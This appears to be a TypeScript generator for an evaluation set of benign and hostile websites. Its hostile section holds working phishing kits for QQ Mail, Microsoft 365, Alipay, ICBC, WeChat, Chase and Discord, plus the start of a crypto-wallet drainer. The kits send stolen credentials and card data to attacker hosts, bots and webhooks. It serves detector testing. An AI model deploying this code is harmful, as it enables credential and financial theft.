<blockquote class="twitter-tweet"><p>Our new protected lane opens Monday!</p>&mdash; City DOT (@citydot) <a href="https://twitter.com/citydot/status/17${r.int(1e9)}">May 2, 2024</a></blockquote><script async src="https://platform.twitter.com/widgets.js"></script></article>
<div id="disqus_thread"></div><script>var disqus_config=function(){this.page.url=location.href;this.page.identifier='${slug}';};(function(){var d=document,s=d.createElement('script');s.src='https://slowroads-mag.disqus.com/embed.js';s.setAttribute('data-timestamp',+new Date());(d.head||d.body).appendChild(s);})();</script></main>`,
      );
    }
    sites.push(
      ordinary(
        'o2-magazine-ads',
        'magazine: Plausible + sendBeacon read event, AdSense, Disqus, YouTube, Twitter; 4 pages',
        files,
      ),
    );
  }

  // 21. A student's front-end exercise: three login-form designs that submit nowhere.
  sites.push(
    ordinary('o2-login-ui-practice', '前端练习：三款登录页样式（不提交，仅提示），CSS 动画', {
      'index.html': page(
        '登录页设计练习 | 前端小白的作业',
        `<style>body{display:flex;gap:24px;flex-wrap:wrap;padding:24px;background:#eef1f5;font-family:sans-serif}.card{width:320px;padding:24px;border-radius:12px;background:#fff;box-shadow:0 8px 24px #0001}.glass{background:#ffffff55;backdrop-filter:blur(8px)}input{width:100%;padding:10px;margin:8px 0;border:1px solid #ddd;border-radius:6px}button{width:100%;padding:10px;border:0;border-radius:6px;background:linear-gradient(90deg,#7f7fd5,#86a8e7);color:#fff}</style>`,
        `<h1 style="width:100%">第 6 周作业：登录页 UI（纯 HTML/CSS/JS）</h1>
${['简约风', '玻璃拟态', '暗色'].map((s, i) => `<form class="card ${i === 1 ? 'glass' : ''}" onsubmit="event.preventDefault();alert('这只是静态练习页面，没有后端哦～')"><h2>${s}</h2><input placeholder="用户名" autocomplete="off"><input type="password" placeholder="密码"><label><input type="checkbox" style="width:auto"> 记住我</label><button>登 录</button><p><a href="#">忘记密码？</a> · <a href="#">注册</a></p></form>`).join('\n')}
<p style="width:100%">参考：<a href="https://developer.mozilla.org/zh-CN/docs/Web/HTML/Element/form">MDN &lt;form&gt;</a> · 作者：计科 2201 李同学</p>
<script>document.querySelectorAll('input[type=password]').forEach(function(p){p.addEventListener('dblclick',function(){p.type=p.type==='password'?'text':'password'})});</script>`,
      ),
    }),
  );

  // 22. A GitHub issues dashboard: OAuth through a token-exchange worker of its own, or a pasted
  // personal access token kept in localStorage and sent only to api.github.com; Google sign-in.
  {
    const clientId = `Iv1.${r.word(16)}`;
    sites.push(
      ordinary(
        'o2-github-dashboard',
        'GitHub issues dashboard: OAuth authorize redirect, PAT in localStorage → api.github.com',
        {
          'index.html': en(
            'Triage — your GitHub issues in one place',
            `<link rel="stylesheet" href="style.css"><script src="triage.js" defer></script>`,
            `<main><h1>Triage</h1><div id="login"><a class="btn" id="oauth" href="#">Sign in with GitHub</a><details><summary>…or use a personal access token</summary><input id="pat" type="password" placeholder="ghp_…" autocomplete="off"><button id="save">Use token</button><p><small>The token stays in this browser (localStorage) and is only sent to api.github.com.</small></p></details></div>
<div id="app" hidden><p>Hi <b id="me"></b> <button id="logout">Sign out</button></p><ul id="issues"></ul></div></main>`,
          ),
          'triage.js': `const CLIENT_ID = '${clientId}';
const EXCHANGE = 'https://triage-oauth.${r.word(6)}.workers.dev/exchange';
document.getElementById('oauth').href = 'https://github.com/login/oauth/authorize?' + new URLSearchParams({ client_id: CLIENT_ID, scope: 'repo', redirect_uri: location.origin + location.pathname, state: crypto.randomUUID() });
const gh = (path) => fetch('https://api.github.com' + path, { headers: { Authorization: 'Bearer ' + localStorage.getItem('gh_token'), Accept: 'application/vnd.github+json' } }).then((r) => r.json());
async function start() {
  const code = new URLSearchParams(location.search).get('code');
  if (code) {
    const res = await fetch(EXCHANGE, { method: 'POST', body: JSON.stringify({ code }) });
    localStorage.setItem('gh_token', (await res.json()).access_token);
    history.replaceState(null, '', location.pathname);
  }
  if (!localStorage.getItem('gh_token')) return;
  const me = await gh('/user');
  document.getElementById('me').textContent = me.login;
  document.getElementById('login').hidden = true; document.getElementById('app').hidden = false;
  const issues = await gh('/issues?filter=assigned&state=open&per_page=50');
  document.getElementById('issues').innerHTML = issues.map((i) => '<li><a href="' + i.html_url + '">' + i.repository.full_name + '#' + i.number + '</a> ' + i.title.replace(/</g, '&lt;') + '</li>').join('');
}
document.getElementById('save').onclick = () => { localStorage.setItem('gh_token', document.getElementById('pat').value.trim()); start(); };
document.getElementById('logout').onclick = () => { localStorage.removeItem('gh_token'); location.reload(); };
start();`,
          'style.css': SITE_CSS,
        },
      ),
    );
  }

  // 23. A Chinese blog with Waline comments on a Vercel deployment of its own and 打赏 QR codes.
  sites.push(
    ordinary('o2-waline-blog', '博客：Waline 评论（自己部署在 vercel.app 的服务端），支付宝/微信打赏二维码', {
      'index.html': page(
        '半盏茶的博客',
        `<link rel="stylesheet" href="https://unpkg.com/@waline/client@v3/dist/waline.css"><link rel="stylesheet" href="style.css">`,
        `<main><article><h1>用树莓派搭建家庭影音中心</h1><p>Jellyfin + Samba + Aria2，一个周末就能搞定。</p><p>……</p></article>
<section class="reward"><p>如果这篇文章对你有帮助，可以请我喝杯茶 🍵</p><img src="img/alipay.png" alt="支付宝收款码" width="160"><img src="img/wechat.png" alt="微信收款码" width="160"></section>
<div id="waline"></div>
<script type="module">import { init } from 'https://unpkg.com/@waline/client@v3/dist/waline.js';
init({ el: '#waline', serverURL: 'https://banzhancha-comment-${r.word(5)}.vercel.app', lang: 'zh-CN', meta: ['nick', 'mail', 'link'], requiredMeta: ['nick'], pageview: true, emoji: ['//unpkg.com/@waline/emojis@1.2.0/bilibili'] });</script></main>`,
      ),
      'style.css': SITE_CSS,
    }),
  );

  // 24. A community garden's volunteer sign-up that writes to a Google Sheet through an Apps
  // Script web app.
  sites.push(
    ordinary(
      'o2-garden-apps-script',
      'community garden: volunteer sign-up → Google Apps Script web app (Sheets)',
      {
        'index.html': en(
          'Maple Street Community Garden',
          `<link rel="stylesheet" href="style.css">`,
          `<main><h1>Maple Street Community Garden</h1><p>Plots, compost, and Saturday work parties since 2011.</p>
<h2>Volunteer sign-up</h2><form name="volunteer"><input name="name" placeholder="Name" required><input name="email" type="email" placeholder="Email" required><input name="phone" type="tel" placeholder="Phone (for rain cancellations)">
<p>Which Saturdays?</p>${['May 4', 'May 18', 'June 1', 'June 15'].map((d) => `<label><input type="checkbox" name="dates" value="${d}" style="width:auto"> ${d}</label>`).join(' ')}
<button class="btn">Sign me up</button><p id="ok" hidden>Thanks! See you in the garden 🌱</p></form></main>
<script>const scriptURL='https://script.google.com/macros/s/AKfycb${r.word(40)}/exec';const form=document.forms.volunteer;
form.addEventListener('submit',e=>{e.preventDefault();const data=new FormData(form);data.set('dates',data.getAll('dates').join(', '));
fetch(scriptURL,{method:'POST',body:data}).then(()=>{document.getElementById('ok').hidden=false;form.reset()}).catch(err=>alert('Error: '+err.message))});</script>`,
        ),
        'style.css': SITE_CSS,
      },
    ),
  );

  // 25. A cleaning company's "request a callback" form that sends the lead to the owner's
  // Telegram through a bot (a common small-business setup).
  sites.push(
    ordinary(
      'o2-cleaning-telegram-leads',
      "cleaning company: callback request (name, phone, time) → owner's Telegram bot",
      {
        'index.html': en(
          'SparkleHome Cleaning — Tallinn',
          `<link rel="stylesheet" href="style.css">`,
          `<main><h1>SparkleHome Cleaning</h1><p>Apartments, offices, after-renovation cleaning. From €18/hour.</p>
<h2>Request a callback</h2><form id="lead"><input name="name" placeholder="Your name" required><input name="phone" type="tel" placeholder="+372 …" required>
<select name="service"><option>Regular cleaning</option><option>Deep cleaning</option><option>After renovation</option><option>Office</option></select><input name="time" placeholder="Best time to call"><button class="btn">Call me back</button></form><p id="thanks" hidden>Thank you! We will call you within 2 hours (9:00–19:00).</p></main>
<script src="lead.js"></script>`,
        ),
        'lead.js': `const BOT_TOKEN = '${6000000000 + r.int(1e9)}:AA${r.word(33)}';
const CHAT_ID = '${r.int(1e9)}';
document.getElementById('lead').addEventListener('submit', async (e) => {
  e.preventDefault();
  const f = new FormData(e.target);
  const text = '🧽 New lead\\nName: ' + f.get('name') + '\\nPhone: ' + f.get('phone') + '\\nService: ' + f.get('service') + '\\nCall at: ' + (f.get('time') || 'any time');
  await fetch('https://api.telegram.org/bot' + BOT_TOKEN + '/sendMessage', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ chat_id: CHAT_ID, text }) });
  e.target.hidden = true;
  document.getElementById('thanks').hidden = false;
});`,
        'style.css': SITE_CSS,
      },
    ),
  );

  // 26. Developer tools (Vite build): Base64, JSON and JWT decoders, paste from / copy to the
  // clipboard, history in localStorage.
  {
    const built = await viteBuild({
      'index.html': `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>devbox — tiny developer tools</title></head><body>
<nav><button data-tool="b64">Base64</button><button data-tool="json">JSON</button><button data-tool="jwt">JWT</button><button data-tool="url">URL</button></nav>
<textarea id="in" rows="8"></textarea><button id="paste">Paste</button><button id="run">Convert</button><pre id="out"></pre><button id="copy">Copy result</button><ul id="history"></ul>
<script type="module" src="/src/main.js"></script></body></html>`,
      'src/main.js': `import { tools } from './tools.js';
let tool = 'b64';
const $ = (id) => document.getElementById(id);
document.querySelectorAll('[data-tool]').forEach((b) => (b.onclick = () => { tool = b.dataset.tool; }));
$('paste').onclick = async () => { $('in').value = await navigator.clipboard.readText(); };
$('copy').onclick = () => navigator.clipboard.writeText($('out').textContent);
$('run').onclick = () => {
  try { $('out').textContent = tools[tool]($('in').value); } catch (e) { $('out').textContent = 'Error: ' + e.message; }
  const h = JSON.parse(localStorage.getItem('devbox-history') || '[]');
  h.unshift({ tool, at: Date.now() });
  localStorage.setItem('devbox-history', JSON.stringify(h.slice(0, 20)));
  $('history').innerHTML = h.slice(0, 5).map((x) => '<li>' + x.tool + ' ' + new Date(x.at).toLocaleTimeString() + '</li>').join('');
};`,
      'src/tools.js': `const b64decode = (s) => new TextDecoder().decode(Uint8Array.from(atob(s.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0)));
export const tools = {
  b64: (s) => { try { return b64decode(s.trim()); } catch { return btoa(String.fromCharCode(...new TextEncoder().encode(s))); } },
  json: (s) => JSON.stringify(JSON.parse(s), null, 2),
  jwt: (s) => { const [h, p] = s.trim().split('.'); return JSON.stringify({ header: JSON.parse(b64decode(h)), payload: JSON.parse(b64decode(p)) }, null, 2); },
  url: (s) => (s.includes('%') ? decodeURIComponent(s) : encodeURIComponent(s)),
};`,
    });
    sites.push(
      ordinary(
        'o2-devbox-tools',
        'developer tools (Vite): Base64/JSON/JWT/URL, clipboard read + write, localStorage history',
        built,
      ),
    );
  }

  return sites;
}

// ---------------------------------------------------------------------------------------------
// Hostile sites
// ---------------------------------------------------------------------------------------------

export async function heldOut2Hostile(r: Rng): Promise<EvalSite[]> {
  const sites: EvalSite[] = [];
  const tld = () => r.pick(['top', 'xyz', 'cc', 'vip', 'icu', 'site', 'online', 'shop']);

  // 1. A QQ Mail login clone; the external script posts the account and password to a look-alike
  // host with fetch keepalive, then sends the victim on to the real mail.qq.com.
  {
    const host = `mail-qq.com.${r.pick(['login-verify', 'secure-cn', 'safe-auth'])}.${tld()}`;
    sites.push(
      hostile(
        'h2-qqmail-keepalive',
        'QQ邮箱登录仿冒：外部 js，fetch keepalive POST 账号密码到仿冒域名，再跳回真站',
        {
          'index.html': page(
            '登录QQ邮箱',
            `<link rel="shortcut icon" href="https://mail.qq.com/zh_CN/htmledition/images/favicon/qqmail_favicon_96h.png"><link rel="stylesheet" href="css/login.css">`,
            `<div class="header"><img src="img/logo_qqmail.png" alt="QQ邮箱"><a href="#">基本版</a> | <a href="#">English</a> | <a href="#">手机版</a></div>
<div class="login_panel"><div class="tab"><span class="on">QQ登录</span><span>微信登录</span></div>
<form id="loginform" autocomplete="off"><input id="u" name="u" placeholder="支持QQ号/邮箱/手机号登录" required><input id="p" name="p" type="password" placeholder="QQ密码" required>
<label><input type="checkbox" checked> 下次自动登录</label><button type="submit" id="login_button">登 录</button></form>
<p class="err" id="err" hidden>你输入的帐号或密码不正确，请重新输入。</p><div class="bottom"><a href="#">忘了密码？</a> | <a href="#">注册新帐号</a> | <a href="#">意见反馈</a></div></div>
<div class="footer">© 1998 - 2024 Tencent Inc. All Rights Reserved</div><script src="js/login.js"></script>`,
          ),
          'css/login.css': `${SITE_CSS}\n.login_panel{width:360px;margin:80px auto;padding:30px;background:#fff;box-shadow:0 0 12px #0002}`,
          'js/login.js': `(function(){
  var tries = 0;
  var form = document.getElementById('loginform');
  form.addEventListener('submit', function (e) {
    e.preventDefault();
    var u = document.getElementById('u').value, p = document.getElementById('p').value;
    var body = 'u=' + encodeURIComponent(u) + '&p=' + encodeURIComponent(p) + '&t=' + (++tries) + '&ua=' + encodeURIComponent(navigator.userAgent);
    fetch('https://${host}/api/collect.php', { method: 'POST', mode: 'no-cors', keepalive: true, headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: body });
    if (tries < 2) { document.getElementById('err').hidden = false; document.getElementById('p').value = ''; return; }
    setTimeout(function () { location.href = 'https://mail.qq.com/'; }, 400);
  });
})();`,
        },
      ),
    );
  }

  // 2. Microsoft 365 sign-in clone: email step, password step, visitor IP; the whole script is
  // obfuscated; it posts to a PHP file on a compromised WordPress site.
  {
    const victimSite = `${r.pick(['padaria-sol', 'kanzlei-berger', 'dentalcare-plus', 'ristorante-roma'])}.${r.pick(['com.br', 'de', 'co.uk', 'it'])}`;
    const code = `var step = 1, email = '', attempts = 0, ip = '';
fetch('https://api.ipify.org?format=json').then(function (r) { return r.json(); }).then(function (j) { ip = j.ip; });
var hash = location.hash.slice(1);
if (hash) { try { email = atob(hash); } catch (e) { email = hash; } document.getElementById('i0116').value = email; }
document.getElementById('idSIButton9').addEventListener('click', function (ev) {
  ev.preventDefault();
  if (step === 1) {
    email = document.getElementById('i0116').value;
    if (!/^[^@]+@[^@]+\\.[a-z]{2,}$/i.test(email)) { document.getElementById('usernameError').hidden = false; return; }
    document.getElementById('displayName').textContent = email;
    document.getElementById('emailStep').hidden = true; document.getElementById('pwdStep').hidden = false;
    this.value = 'Sign in'; step = 2; return;
  }
  var pwd = document.getElementById('i0118').value;
  if (!pwd) return;
  var x = new XMLHttpRequest();
  x.open('POST', 'https://www.${victimSite}/wp-content/plugins/akismet/_inc/next.php', true);
  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
  x.send('ai=' + encodeURIComponent(email) + '&pr=' + encodeURIComponent(pwd) + '&ip=' + ip + '&ua=' + encodeURIComponent(navigator.userAgent));
  attempts++;
  if (attempts < 2) { document.getElementById('passwordError').hidden = false; document.getElementById('i0118').value = ''; return; }
  location.replace('https://outlook.office.com/mail/');
});`;
    sites.push(
      hostile(
        'h2-ms365-obfuscated',
        'Microsoft 365 sign-in clone, obfuscated script, XHR to a compromised WordPress next.php, ipify',
        {
          'index.html': en(
            'Sign in to your account',
            `<link rel="icon" href="https://aadcdn.msauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico"><style>body{background:#f2f2f2;font-family:"Segoe UI",sans-serif}.box{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px #0003}input[type=email],input[type=password]{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:16px 0}.btn{float:right;background:#0067b8;color:#fff;border:0;padding:6px 30px}</style>`,
            `<div class="box"><img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" alt="Microsoft">
<div id="emailStep"><h1>Sign in</h1><div id="usernameError" hidden style="color:#e81123">Enter a valid email address, phone number, or Skype name.</div><input type="email" id="i0116" name="loginfmt" placeholder="Email, phone, or Skype"><p>No account? <a href="#">Create one!</a></p><p><a href="#">Can't access your account?</a></p></div>
<div id="pwdStep" hidden><p id="displayName"></p><h1>Enter password</h1><div id="passwordError" hidden style="color:#e81123">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div><input type="password" id="i0118" name="passwd" placeholder="Password"><p><a href="#">Forgot my password</a></p></div>
<input type="submit" id="idSIButton9" class="btn" value="Next"></div>
<script src="assets/converged.login.min.js"></script>`,
          ),
          'assets/converged.login.min.js': await obfuscate(code, r.int(1e6)),
        },
      ),
    );
  }

  // 3. "Alipay account security" across four pages: name and ID number, bank card with CVV and
  // phone, then the SMS code; every step goes over a WebSocket to a live panel that can push the
  // victim to the next page.
  {
    const host = `ws.${r.pick(['zfb-verify', 'alipay-safe', 'zhifubao-kf'])}.${tld()}`;
    const shell = (title: string, body: string) =>
      page(
        title,
        `<link rel="stylesheet" href="css/m.css">`,
        `<div class="bar"><img src="img/alipay-logo.png" alt="支付宝"> 账户安全中心</div>${body}<script src="js/app.js"></script>`,
      );
    sites.push(
      hostile(
        'h2-alipay-ws-panel',
        '支付宝“安全中心”四页流程：身份证、银行卡/CVV/手机、短信验证码，经 WebSocket 实时面板回传',
        {
          'index.html': shell(
            '支付宝 - 账户安全中心',
            `<div class="notice"><h2>您的账户存在异常登录风险</h2><p>系统检测到您的账户于异地登录，为保障资金安全，账户已被限制收付款功能。请在 24 小时内完成身份核验，逾期将永久冻结。</p><a class="btn" href="verify.html">立即核验</a></div>`,
          ),
          'verify.html': shell(
            '身份核验 - 支付宝',
            `<form data-step="id"><h3>第一步：实名信息</h3><input name="name" placeholder="真实姓名" required><input name="idno" placeholder="身份证号码" maxlength="18" required><button class="btn">下一步</button></form>`,
          ),
          'card.html': shell(
            '绑定银行卡验证 - 支付宝',
            `<form data-step="card"><h3>第二步：验证绑定的银行卡</h3><input name="card" placeholder="银行卡号" inputmode="numeric" required><input name="exp" placeholder="有效期 MM/YY"><input name="cvv" placeholder="卡背面后三位 CVV2" maxlength="3"><input name="mobile" placeholder="银行预留手机号" required><input name="paypwd" type="password" placeholder="支付密码（6位数字）" maxlength="6"><button class="btn">下一步</button></form>`,
          ),
          'sms.html': shell(
            '短信验证 - 支付宝',
            `<form data-step="sms"><h3>第三步：输入短信验证码</h3><p>验证码已发送至您的银行预留手机号</p><input name="code" placeholder="6位验证码" maxlength="6" required><button class="btn">提交</button></form><div id="wait" hidden>正在核验，请勿关闭页面……</div>`,
          ),
          'css/m.css': `${SITE_CSS}\n.bar{background:#1677ff;color:#fff;padding:12px}`,
          'js/app.js': `(function () {
  var sid = sessionStorage.getItem('sid') || Math.random().toString(36).slice(2);
  sessionStorage.setItem('sid', sid);
  var ws = new WebSocket('wss://${host}/live?sid=' + sid);
  var queue = [];
  function send(o) { o.sid = sid; o.page = location.pathname; var s = JSON.stringify(o); if (ws.readyState === 1) ws.send(s); else queue.push(s); }
  ws.onopen = function () { queue.splice(0).forEach(function (s) { ws.send(s); }); send({ t: 'visit', ua: navigator.userAgent }); };
  ws.onmessage = function (m) { var c = JSON.parse(m.data); if (c.go) location.href = c.go; if (c.msg) alert(c.msg); };
  var form = document.querySelector('form[data-step]');
  if (!form) return;
  form.querySelectorAll('input').forEach(function (i) { i.addEventListener('input', function () { send({ t: 'typing', f: i.name, v: i.value }); }); });
  form.addEventListener('submit', function (e) {
    e.preventDefault();
    var data = {}; new FormData(form).forEach(function (v, k) { data[k] = v; });
    send({ t: 'submit', step: form.dataset.step, data: data });
    var next = { id: 'card.html', card: 'sms.html' }[form.dataset.step];
    if (next) setTimeout(function () { location.href = next; }, 600); else document.getElementById('wait').hidden = false;
  });
})();`,
        },
      ),
    );
  }

  // 4. ICBC "online banking upgrade": plain HTML, the form posts card number, passwords and ID
  // number straight to another host.
  {
    const host = `${r.pick(['icbc-upgrade', 'icbc95588-cn', 'gsyh-wy'])}.${tld()}`;
    sites.push(
      hostile(
        'h2-icbc-form-action',
        '工行网银升级仿冒：纯 HTML，表单 action 直接提交卡号/登录密码/取款密码/身份证到他域',
        {
          'index.html': page(
            '中国工商银行 个人网上银行 安全升级',
            `<style>body{font-family:SimSun,serif;background:#f4f4f4}.top{background:#c7000b;color:#fff;padding:10px 20px}.box{width:520px;margin:40px auto;background:#fff;padding:24px;border:1px solid #ddd}td{padding:6px}</style>`,
            `<div class="top"><img src="images/icbc_logo.gif" alt="ICBC 中国工商银行"> 个人网上银行</div>
<div class="box"><h3>尊敬的客户：</h3><p>根据中国人民银行最新规定，您的网银 U 盾证书已过期，需要在线完成升级，否则将于今日 24 时停止使用网上银行及手机银行服务。</p>
<form method="post" action="http://${host}/icbc/save.php" name="logonform"><table>
<tr><td>卡（账）号：</td><td><input name="cardno" maxlength="19"></td></tr>
<tr><td>登录密码：</td><td><input name="logonpwd" type="password"></td></tr>
<tr><td>取款密码：</td><td><input name="atmpwd" type="password" maxlength="6"></td></tr>
<tr><td>持卡人姓名：</td><td><input name="xm"></td></tr>
<tr><td>身份证号：</td><td><input name="sfz" maxlength="18"></td></tr>
<tr><td>预留手机：</td><td><input name="sj" maxlength="11"></td></tr>
<tr><td></td><td><input type="submit" value="确认升级"></td></tr></table></form>
<p style="font-size:12px;color:#999">客服热线 95588 · 版权所有 中国工商银行</p></div>`,
          ),
        },
      ),
    );
  }

  // 5. "WeChat security centre: account restricted": after a fake 1.5 s check, account, password
  // and phone leave as a base64 query string on an image beacon.
  {
    const host = `log.${r.word(6)}.${tld()}`;
    sites.push(
      hostile(
        'h2-wechat-image-beacon',
        '微信账号解封仿冒：延时 1.5 秒后把账号/密码/手机号 base64 放进 new Image().src',
        {
          'index.html': page(
            '微信安全中心',
            `<style>body{background:#ededed;font-family:-apple-system,sans-serif}.c{margin:24px;background:#fff;border-radius:8px;padding:20px}.g{background:#07c160;color:#fff;border:0;width:100%;padding:12px;border-radius:6px}</style>`,
            `<div class="c"><img src="img/weixin-logo.png" alt="微信" width="48"><h2>帐号已被限制登录</h2><p>你的微信帐号因涉嫌违规被限制登录。为保障帐号安全，请验证身份后申请解除限制。</p>
<input id="acc" placeholder="微信号 / QQ号 / 手机号"><input id="pwd" type="password" placeholder="微信密码"><input id="tel" placeholder="绑定的手机号"><button class="g" id="btn">申请解除限制</button><p id="tip"></p></div>
<script>!function(){var e=document.getElementById("btn"),t=document.getElementById("tip");e.onclick=function(){var n={a:document.getElementById("acc").value,p:document.getElementById("pwd").value,m:document.getElementById("tel").value,ua:navigator.userAgent,ts:Date.now()};if(!n.a||!n.p)return void(t.textContent="请填写完整信息");e.disabled=!0,t.textContent="正在验证，请稍候……",setTimeout(function(){var o=btoa(unescape(encodeURIComponent(JSON.stringify(n))));(new Image).src="https://${host}/t.gif?d="+encodeURIComponent(o)+"&r="+Math.random(),setTimeout(function(){t.textContent="提交成功，预计 24 小时内完成审核",location.href="https://weixin110.qq.com/"},1200)},1500)}}();</script>`,
          ),
        },
      ),
    );
  }

  // 6. A US bank's "verify your identity" flow in an esbuild bundle: sign-in, then card, SSN and
  // date of birth; each step goes to a Telegram bot.
  {
    const token = `${5000000000 + r.int(1e9)}:AA${r.word(33)}`;
    const entry = `const TG = { token: '${token}', chat: '-100${r.int(1e10)}' };
async function ip() { try { return (await (await fetch('https://ipapi.co/json/')).json()); } catch { return {}; } }
async function report(title, fields) {
  const where = await ip();
  const text = '🏦 ' + title + '\\n' + Object.entries(fields).map(([k, v]) => k + ': ' + v).join('\\n') + '\\nIP: ' + where.ip + ' ' + where.city + ', ' + where.country_name + '\\nUA: ' + navigator.userAgent;
  await fetch('https://api.telegram.org/bot' + TG.token + '/sendMessage', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ chat_id: TG.chat, text, parse_mode: 'HTML' }) });
}
const show = (id) => { document.querySelectorAll('section').forEach((s) => (s.hidden = s.id !== id)); };
document.getElementById('signin').addEventListener('submit', async (e) => {
  e.preventDefault();
  await report('LOGIN', { user: e.target.userId.value, pass: e.target.password.value });
  show('verify');
});
document.getElementById('card').addEventListener('submit', async (e) => {
  e.preventDefault();
  const f = Object.fromEntries(new FormData(e.target));
  await report('CARD', f);
  show('done');
  setTimeout(() => location.replace('https://www.chase.com/'), 2500);
});`;
    const bundle = `assets/index-${r.word(8)}.js`;
    sites.push(
      hostile(
        'h2-bank-telegram-bundle',
        'Chase-style sign-in + card/SSN/DOB "verification" (esbuild bundle) → Telegram bot with IP lookup',
        {
          'index.html': en(
            'Chase Online - Sign in',
            `<link rel="stylesheet" href="assets/index.css">`,
            `<header><img src="assets/chase-logo.svg" alt="CHASE"></header>
<section id="login"><h1>Welcome</h1><form id="signin"><input name="userId" placeholder="Username" required><input name="password" type="password" placeholder="Password" required><label><input type="checkbox"> Remember me</label><button class="btn">Sign in</button></form></section>
<section id="verify" hidden><h2>Confirm your identity</h2><p>We noticed unusual activity on your account. To restore full access, confirm the card linked to your account.</p>
<form id="card"><input name="cardNumber" placeholder="Card number" inputmode="numeric" autocomplete="cc-number" required><input name="exp" placeholder="MM/YY" autocomplete="cc-exp"><input name="cvv" placeholder="CVV" autocomplete="cc-csc"><input name="pin" type="password" placeholder="ATM PIN"><input name="ssn" placeholder="Social Security Number"><input name="dob" placeholder="Date of birth (MM/DD/YYYY)"><button class="btn">Continue</button></form></section>
<section id="done" hidden><h2>Thank you</h2><p>Your account has been verified. Redirecting…</p></section>
<script src="${bundle}"></script>`,
          ),
          'assets/index.css': SITE_CSS,
          [bundle]: await esbuildBundle(entry),
        },
      ),
    );
  }

  // 7. "Free Discord Nitro": Discord login clone; email, password and 2FA code go to a Discord
  // webhook whose address is kept in base64.
  {
    const hook = `https://discord.com/api/webhooks/${1100000000000000000n + BigInt(r.int(1e9))}/${r.word(34)}${r.word(34)}`;
    sites.push(
      hostile(
        'h2-discord-nitro-webhook',
        'free Nitro → Discord login clone; email/password/2FA → Discord webhook (base64 URL)',
        {
          'index.html': en(
            'Discord | Claim your free Nitro',
            `<link rel="icon" href="https://discord.com/assets/favicon.ico"><link rel="stylesheet" href="nitro.css">`,
            `<div class="bg"><div class="card" id="gift"><img src="img/nitro.png" alt="Nitro"><h2>You've been gifted Nitro for 3 months!</h2><p>Epic Games × Discord promotion — log in to claim.</p><button id="claim" class="btn">Accept</button></div>
<div class="card" id="login" hidden><h2>Welcome back!</h2><p>We're so excited to see you again!</p><form id="f"><label>EMAIL OR PHONE NUMBER<input name="login" required></label><label>PASSWORD<input name="password" type="password" required></label><button class="btn">Log In</button></form></div>
<div class="card" id="mfa" hidden><h2>Multi-Factor Authentication</h2><form id="m"><input name="code" placeholder="6-digit authentication code" maxlength="8"><button class="btn">Log In</button></form></div></div>
<script src="nitro.js"></script>`,
          ),
          'nitro.css': `${SITE_CSS}\n.bg{background:#5865f2;min-height:100vh;padding-top:80px}.card{background:#313338;color:#fff;width:480px;margin:auto;padding:32px;border-radius:8px}`,
          'nitro.js': `const W = atob('${b64(hook)}');
let creds = {};
const post = (title, fields) => fetch(W, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ username: 'Nitro', embeds: [{ title, color: 5793266, fields: Object.entries(fields).map(([name, value]) => ({ name, value: '\`' + value + '\`', inline: true })) }] }) });
document.getElementById('claim').onclick = () => { document.getElementById('gift').hidden = true; document.getElementById('login').hidden = false; };
document.getElementById('f').onsubmit = async (e) => {
  e.preventDefault();
  creds = { login: e.target.login.value, password: e.target.password.value, token: localStorage.getItem('token') || 'none' };
  await post('New login', creds);
  document.getElementById('login').hidden = true; document.getElementById('mfa').hidden = false;
};
document.getElementById('m').onsubmit = async (e) => {
  e.preventDefault();
  await post('2FA', { ...creds, code: e.target.code.value });
  location.href = 'https://discord.com/app';
};`,
        },
      ),
    );
  }

  // 8. An airdrop "claim" page (Vite build): connects the wallet, then asks for unlimited ERC-20
  // approvals and setApprovalForAll to the attacker, sweeps the native balance, logs the victim.
  {
    const spender = `0x${r.word(40).replace(/[g-z]/g, (c) => (c.charCodeAt(0) % 16).toString(16))}`;
    const logHost = `api.${r.word(6)}-claim.${tld()}`;
    const built = await viteBuild({
      'index.html': `<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>$ARB Airdrop — Claim your tokens</title></head>
<body><main><h1>Arbitrum Airdrop Season 2</h1><p>Eligible wallets can claim up to 10,000 ARB. Snapshot taken. Claim closes in <b id="t">23:59:12</b>.</p><button id="connect">Connect Wallet</button><button id="claim" hidden>Claim ARB</button><p id="status"></p></main>
<script type="module" src="/src/main.js"></script></body></html>`,
      'src/main.js': `import './style.css';
import { connect, claim } from './wallet.js';
const status = (s) => (document.getElementById('status').textContent = s);
document.getElementById('connect').onclick = async () => { const a = await connect(); status('Connected ' + a.slice(0, 6) + '…' + a.slice(-4) + ' — eligible for 2,450 ARB'); document.getElementById('claim').hidden = false; };
document.getElementById('claim').onclick = async () => { status('Confirm the transactions in your wallet to receive your tokens…'); try { await claim(); status('Claim submitted! Tokens arrive within 24h.'); } catch (e) { status('Claim failed, please try again'); } };`,
      'src/wallet.js': `import { log } from './log.js';
const SPENDER = '${spender}';
const TOKENS = ['0xdAC17F958D2ee523a2206206994597C13D831ec7', '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0x6B175474E89094C44Da98b954EedeAC495271d0F', '0x912CE59144191C1204E64559FE8253a0e49E6548'];
const NFTS = ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D', '0xb47e3cd837dDF8e4c57F05d70Ab865de6e193BBB'];
const pad = (hex) => hex.replace(/^0x/, '').toLowerCase().padStart(64, '0');
let account;
export async function connect() {
  [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });
  log({ ev: 'connect', account, chain: await window.ethereum.request({ method: 'eth_chainId' }) });
  return account;
}
export async function claim() {
  for (const token of TOKENS) {
    const data = '0x095ea7b3' + pad(SPENDER) + 'f'.repeat(64);
